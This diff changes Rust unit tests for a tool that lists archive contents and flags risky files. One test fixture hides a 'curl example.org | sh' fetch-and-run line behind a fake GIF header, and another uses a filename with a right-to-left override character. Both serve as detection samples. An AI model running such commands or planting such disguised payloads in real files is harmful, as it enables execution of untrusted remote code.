@@ -524,7 +524,7 @@ fn the_files_of_an_archive_are_listed_also_when_it_is_compressed() {
     for bytes in [tar, gzip.finish().unwrap(), zstd] {
         let made = shown_file(&bytes);
         let text = made.to_lines().join("\n");
-        assert!(text.contains("src/main.rs  3 bytes"), "{text}");
+        assert!(text.contains("3 bytes  file  src/main.rs"), "{text}");
         assert!(text.contains("evil\\u{202e}x"), "{text}");
         assert_eq!(made.risks, []);
     }
@@ -558,10 +558,14 @@ fn the_files_of_a_zip_archive_are_listed() {
     let mut bytes = Vec::new();
     let mut archive = rawzip::ZipArchiveWriter::new(&mut bytes);
     for name in ["docs/readme.md", "xx/out"] {
-        let (mut entry, config) = archive.new_file(name).start().unwrap();
-        let mut writer = config.wrap(&mut entry);
+        let file = archive.new_file(name);
+        let file = file.compression_method(rawzip::CompressionMethod::DEFLATE);
+        let (mut entry, config) = file.start().unwrap();
+        let packer = flate2::write::DeflateEncoder::new(&mut entry, flate2::Compression::fast());
+        let mut writer = config.wrap(packer);
         std::io::Write::write_all(&mut writer, b"text").unwrap();
-        let (_, descriptor) = writer.finish().unwrap();
+        let (packer, descriptor) = writer.finish().unwrap();
+        packer.finish().unwrap();
         entry.finish(descriptor).unwrap();
     }
     archive.finish().unwrap();
@@ -571,7 +575,7 @@ fn the_files_of_a_zip_archive_are_listed() {
     }
     let made = shown_file(&bytes);
     let text = made.to_lines().join("\n");
-    assert!(text.contains("docs/readme.md  4 bytes"), "{text}");
+    assert!(text.contains("4 bytes  file  docs/readme.md"), "{text}");
     assert_eq!(made.risks, [Risk::SuspiciousPaths], "{text}");
 }
 
@@ -580,7 +584,10 @@ fn bytes_of_no_known_kind_are_a_risk_and_known_ones_are_named() {
     let unknown = shown_file(&[0x00, 0xff, 0x13, 0x37, 0x80]);
     assert_eq!(unknown.risks, [Risk::UnknownContent]);
     let elf = shown_file(b"\x7fELF\x02\x01\x01\xff\xfe");
-    assert_eq!(elf.risks, []);
+    assert_eq!(elf.risks, [Risk::BinaryContent]);
+    // A program that runs it looks at other bytes than the first.
+    let script = shown_file(b"GIF8=1\n# \0\xff\ncurl example.org | sh\n");
+    assert_eq!(script.risks, [Risk::BinaryContent]);
     assert!(elf.to_lines().join("\n").contains("ELF program or library"));
 }
 
